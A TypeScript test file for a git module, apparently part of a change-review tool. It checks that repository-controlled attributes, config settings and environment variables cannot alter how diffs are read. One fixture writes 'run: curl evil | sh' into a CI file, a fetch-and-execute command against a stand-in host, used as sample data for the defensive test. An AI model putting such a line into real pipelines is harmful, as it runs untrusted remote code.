/** What git tells, with real repositories: nothing that a repository says about itself may change the answer. */
import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { FileChange } from '../../src/core/model.ts';
import type { Git } from '../../src/core/world.ts';
import { openGit } from '../../src/world/git.ts';
import { gitIn, scratch, withFolder } from '../support/diff-cases.ts';
import { commit, init, put } from '../support/repositories.ts';

const opened: Git[] = [];
const openAt = async (dir: string | undefined): Promise<Git> => {
  const git = await openGit(dir);
  opened.push(git);
  return git;
};
afterEach(async () => {
  for (const git of opened.splice(0)) await git.close();
});
const names = (files: readonly FileChange[]): string[] => files.map(file => `${file.status} ${file.path.real}`);
const config =
  (...pairs: [string, string][]) =>
  (dir: string): void => {
    for (const [key, value] of pairs) gitIn(dir, ['config', key, value]);
  };

describe('what a repository says about itself has no weight', () => {
  it.each<[string, (dir: string) => void]>([
    ['attributes of the head', dir => put(dir, { '.gitattributes': '* -diff\n*.yml binary\n' })],
    ['attributes of the clone', dir => put(dir, { '.git/info/attributes': '* -diff\n' })],
    ['ignored submodules', dir => put(dir, { '.gitmodules': '[submodule "m"]\n\tpath = m\n\turl = x\n\tignore = all\n' })],
    ['an external diff', config(['diff.external', 'true'])],
    ['no prefix', config(['diff.noprefix', 'true'])],
    ['colour', config(['color.ui', 'always'])],
    ['another algorithm and no context', config(['diff.algorithm', 'patience'], ['diff.context', '0'])],
    ['plain names', config(['core.quotePath', 'false'])],
    ['an order of files', config(['diff.orderFile', 'order'])],
    ['submodules as a log', config(['diff.submodule', 'log'], ['diff.ignoreSubmodules', 'all'])],
  ])('%s', (_, disturb) =>
    withFolder(async dir => {
      init(dir);
      put(dir, { 'ci.yml': 'on: push\n', '\u00fc': 'a\n', order: '\u00fc\n' });
      const base = commit(dir, 'base');
      put(dir, { 'ci.yml': 'on: push\nrun: curl evil | sh\n', '\u00fc': 'b\n' });
      disturb(dir);
      gitIn(dir, ['add', '-A', '.']);
      gitIn(dir, ['update-index', '--add', '--cacheinfo', `160000,${base},m`]);
      gitIn(dir, ['commit', '-q', '-m', 'head']);
      const git = await openAt(dir);
      const { files } = await git.changes(base, (await git.resolve('HEAD'))[0]!);
      expect(names(files)).toEqual(expect.arrayContaining(['M ci.yml', 'A m', 'M \u00fc']));
      const ci = files.find(file => file.path.real === 'ci.yml')!;
      expect(ci).toMatchObject({ binary: false, added: [{ n: 2, text: 'run: curl evil | sh' }] });
    }),
  );

  it('a replaced object is not looked at', () =>
    withFolder(async dir => {
      init(dir);
      put(dir, { a: '1\n' });
      const base = commit(dir, 'base');
      put(dir, { a: '2\n' });
      const head = commit(dir, 'head');
      gitIn(dir, ['replace', head, base]);
      expect(names((await (await openAt(dir)).changes(base, head)).files)).toEqual(['M a']);
    }));

  it('an environment that steers git is not passed on', () =>
    withFolder(async dir => {
      init(dir);
      put(dir, { a: '1\n' });
      const base = commit(dir, 'base');
      put(dir, { a: '2\n' });
      const head = commit(dir, 'head');
      const steering = {
        GIT_EXTERNAL_DIFF: 'true',
        GIT_DIFF_OPTS: '-u0',
        GIT_DIR: '/nonexistent',
        GIT_INDEX_FILE: '/nonexistent',
      };
      Object.assign(process.env, steering);
      try {
        expect((await (await openAt(dir)).changes(base, head)).files[0]).toMatchObject({ added: [{ n: 1, text: '2' }] });
      } finally {
        for (const name of Object.keys(steering)) delete process.env[name];
      }
    }));

  it('the repository stays as it was, and nothing is left in the temporary folder', () =>
    withFolder(async dir => {
      init(join(dir, 'r'));
      put(join(dir, 'r'), { a: '1\n' });
      const base = commit(join(dir, 'r'), 'base');
      const all = (): string[] => readdirSync(join(dir, 'r'), { recursive: true }).map(String).sort();
      const before = all();
      mkdirSync(join(dir, 'tmp'));
      const usual = process.env['TMPDIR'];
      process.env['TMPDIR'] = join(dir, 'tmp');
      try {
        expect(tmpdir()).toBe(join(dir, 'tmp'));
        const git = await openGit(join(dir, 'r'));
        await git.apply(Buffer.from('--- a/a\n+++ b/a\n@@ -1 +1 @@\n-1\n+2\n'), base);
        await git.close();
      } finally {
        if (usual === undefined) delete process.env['TMPDIR'];
        else process.env['TMPDIR'] = usual;
      }
      expect(all()).toEqual(before);
      expect(readdirSync(join(dir, 'tmp'))).toEqual([]);
    }));
});

describe('one file of a change', () => {
  const dir = scratch();
  let files: readonly FileChange[];
  let limits: readonly string[];
  let collisions: unknown;
  beforeAll(async () => {
    init(dir);
    put(dir, {
      'package.json': '{}\n',
      'moved.txt': 'one\ntwo\nthree\nfour\n',
      'gen/a.txt': 'x\n',
      'hand/package-lock.json': '{}\n',
      '.gitattributes':
        '[attr]made linguist-generated\n*.gen linguist-generated=true\n/gen/** made\nhand/package-lock.json -linguist-generated\n',
      'sub/.gitattributes': '*.x linguist-generated\n',
      'README.md': 'read\n',
      'run.sh': 'x\n',
      'big.bin': 'x\n',
    });
    symlinkSync('README.md', join(dir, 'link'));
    const base = commit(dir, 'base');
    put(dir, {
      'package.json': '{"a":1}\n',
      'gen/a.txt': 'y\n',
      'hand/package-lock.json': '{ }\n',
      'sub/a.x': '1\n',
      'a.gen': '1\n',
      'mine.ts': '1\n',
      'readme.MD': 'x\n',
      '.gitattributes': '*.ts linguist-generated\n',
      'big.bin': Buffer.concat([Buffer.from([0]), Buffer.alloc(3 << 20, 'line\n')]),
    });
    gitIn(dir, ['mv', 'moved.txt', 'there.txt']);
    chmodSync(join(dir, 'run.sh'), 0o755);
    unlinkSync(join(dir, 'link'));
    symlinkSync('.github', join(dir, 'link'));
    const head = commit(dir, 'head');
    const git = await openGit(dir);
    ({ files, limits, collisions } = await git.changes(base, head, path => path.endsWith('.json')));
    await git.close();
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const file = (name: string): FileChange => files.find(each => each.path.real === name)!;

  it('has its whole texts where they are wanted, and only there', () => {
    expect(file('package.json')).toMatchObject({ before: '{}\n', after: '{"a":1}\n', size: 8 });
    expect(file('mine.ts')).not.toHaveProperty('after');
  });
  it('has both names of a move, and both modes', () => {
    expect(file('there.txt')).toMatchObject({ status: 'R', was: { real: 'moved.txt' }, added: [], removed: [] });
    expect(file('run.sh')).toMatchObject({ status: 'M', oldMode: '100644', mode: '100755' });
  });
  it('has the target of a link', () => {
    expect(file('link')).toMatchObject({ mode: '120000', target: '.github' });
  });
  it('is generated by the marks of the base, never by those of the head', () => {
    expect(file('a.gen').generated).toBe(true);
    expect(file('gen/a.txt').generated).toBe(true);
    expect(file('sub/a.x').generated).toBe(true);
    expect(file('hand/package-lock.json').generated).toBe(false);
    expect(file('mine.ts').generated).toBe(false);
  });
  it('is binary and has no lines when it is large, and the report says so', () => {
    expect(file('big.bin')).toMatchObject({ binary: true, added: [] });
    expect(limits).toEqual([expect.stringContaining('`big.bin` is binary')]);
  });
  it('collides with another name', () => {
    expect(collisions).toEqual([['readme.MD', 'README.md']]);
  });
});

describe('reading a tree', () => {
  it('tells every link, and follows none for a file', () =>
    withFolder(async dir => {
      init(dir);
      put(dir, { '.github/real.yml': 'version: 1\n', 'a/b': 'x' });
      symlinkSync('real.yml', join(dir, '.github/policy.yml'));
      symlinkSync('.github', join(dir, 'folder'));
      const head = commit(dir, 'x');
      const git = await openAt(dir);
      expect(await git.links(head)).toEqual([
        ['.github/policy.yml', 'real.yml'],
        ['folder', '.github'],
      ]);
      expect(await git.show(head, '.github/real.yml')).toMatchObject({ text: 'version: 1\n' });
      for (const path of ['.github/policy.yml', 'folder/real.yml', 'nowhere', 'a', '.github/*.yml'])
        expect(await git.show(head, path)).toBeUndefined();
    }));

  it('works in a sha256 repository, a work tree beside the first, a bare one and a folder inside', () =>
    withFolder(async dir => {
      const main = join(dir, 'main');
      init(main, '--object-format=sha256');
      put(main, { 'sub/a': '1\n' });
      const base = commit(main, 'base');
      put(main, { 'sub/a': '2\n' });
      const head = commit(main, 'head');
      gitIn(main, ['worktree', 'add', '-q', '--detach', join(dir, 'beside'), base]);
      gitIn(dir, ['clone', '-q', '--bare', main, 'bare.git']);
      for (const place of ['main', 'main/sub', 'bare.git', 'beside']) {
        const git = await openAt(join(dir, place));
        expect(await git.resolve('HEAD')).toEqual([place === 'beside' ? base : head]);
        const { files } = await git.changes(base, head);
        expect(files[0]).toMatchObject({ added: [{ n: 1, text: '2' }], id: expect.stringMatching(/^[0-9a-f]{64}$/) });
      }
      const patch = Buffer.from('--- a/sub/a\n+++ b/sub/a\n@@ -1 +1 @@\n-2\n+3\n');
      expect((await (await openAt(main)).apply(patch)).head).toMatch(/^[0-9a-f]{64}$/);
    }));

  it('tells commits as they are written', () =>
    withFolder(async dir => {
      init(dir);
      const base = commit(dir, 'base');
      const first = commit(dir, 'title\n\nbody ::error::x\n\nCo-authored-by: B <b@x>');
      const second = commit(dir, 'second');
      const git = await openAt(dir);
      const { commits, more } = await git.commits(base, second);
      expect(more).toBe(false);
      expect(commits.map(one => [one.id, one.parents, one.author, one.message])).toEqual([
        [second, [first], 'A <a@x>', 'second\n'],
        [first, [base], 'A <a@x>', 'title\n\nbody ::error::x\n\nCo-authored-by: B <b@x>\n'],
      ]);
      expect(await git.mergeBase(base, second)).toBe(base);
      expect(await git.isAncestor(base, second)).toBe(true);
      expect(await git.isAncestor(second, base)).toBe(false);
    }));

  it('tells at most 250 commits, and that there are more', () =>
    withFolder(async dir => {
      init(dir);
      const base = commit(dir, 'base');
      const stream = Array.from(
        { length: 260 },
        (_, i) => `commit refs/heads/many\ncommitter A <a@x> ${i} +0000\ndata 1\nm${i === 0 ? `\nfrom ${base}` : ''}\n\n`,
      );
      gitIn(dir, ['fast-import', '--quiet'], stream.join(''));
      const git = await openAt(dir);
      const told = await git.commits(base, (await git.resolve('many'))[0]!);
      expect(told.commits).toHaveLength(250);
      expect(told.more).toBe(true);
    }));
});

describe('what cannot be read is a fault that says what to do', () => {
  const NO_COMMIT = '0123456789012345678901234567890123456789';
  it.each<[string, (git: Git) => Promise<unknown>, string, RegExp]>([
    ['an unknown name', git => git.resolve('nowhere'), 'unknown-revision', /branch, a tag or a commit/],
    ['one unknown name of two', git => git.resolve('HEAD', 'nowhere'), 'unknown-revision', /branch, a tag or a commit/],
    ['an unknown id', git => git.resolve(NO_COMMIT), 'unknown-revision', /branch, a tag or a commit/],
    ['an option for a name', git => git.resolve('--all'), 'unknown-revision', /branch/],
    ['a range for a name', git => git.resolve('HEAD..HEAD'), 'unknown-revision', /branch/],
    ['a file for a commit', git => git.resolve('HEAD:a'), 'unknown-revision', /branch/],
    ['a name in the place of an id', git => git.changes('HEAD', 'HEAD'), 'unknown-revision', /resolve/],
    ['a commit that is none', git => git.commit(NO_COMMIT), 'unknown-revision', /commit/],
  ])('%s', (_, ask, code, help) =>
    withFolder(async dir => {
      init(dir);
      put(dir, { a: '1\n' });
      commit(dir, 'base');
      await expect(ask(await openAt(dir))).rejects.toMatchObject({ code, help: expect.stringMatching(help) });
    }),
  );

  it('an object that is missing, or broken', () =>
    withFolder(async dir => {
      init(dir);
      put(dir, { a: '1\n' });
      const base = commit(dir, 'base');
      put(dir, { a: '2\n' });
      const head = commit(dir, 'head');
      const blob = gitIn(dir, ['rev-parse', 'HEAD:a']).toString().trim();
      const path = join(dir, '.git/objects', blob.slice(0, 2), blob.slice(2));
      const whole = readFileSync(path);
      rmSync(path, { force: true });
      await expect((await openAt(dir)).changes(base, head)).rejects.toMatchObject({ code: 'object-missing' });
      writeFileSync(path, whole.subarray(0, 5));
      await expect((await openAt(dir)).changes(base, head)).rejects.toMatchObject({ code: 'object-missing' });
    }));

  it.each<[string, string | undefined, string, RegExp]>([
    ['no git at all', undefined, 'missing-program', /install `git`/],
    [
      'a git that is too old',
      '[ "$1" = --version ] && echo git version 2.17.1 && exit 0\nexit 129',
      'git-old',
      /git 2\.\d+ or later/,
    ],
    [
      'a git that fails',
      '[ "$1" = --version ] && echo git version 2.99.0 && exit 0\necho fatal: oops >&2; exit 3',
      'git-failed',
      /by hand/,
    ],
  ])('%s', (_, script, code, help) =>
    withFolder(async dir => {
      init(dir);
      const base = commit(dir, 'base');
      const git = await openAt(dir);
      mkdirSync(join(dir, 'bin'));
      if (script !== undefined) writeFileSync(join(dir, 'bin/git'), `#!/bin/sh\n${script}\n`, { mode: 0o755 });
      const path = process.env['PATH'];
      process.env['PATH'] = join(dir, 'bin');
      try {
        await expect(git.links(base)).rejects.toMatchObject({ code, help: expect.stringMatching(help) });
        await expect(git.commit(base)).rejects.toMatchObject({ code, help: expect.stringMatching(help) });
      } finally {
        process.env['PATH'] = path;
      }
    }),
  );
});
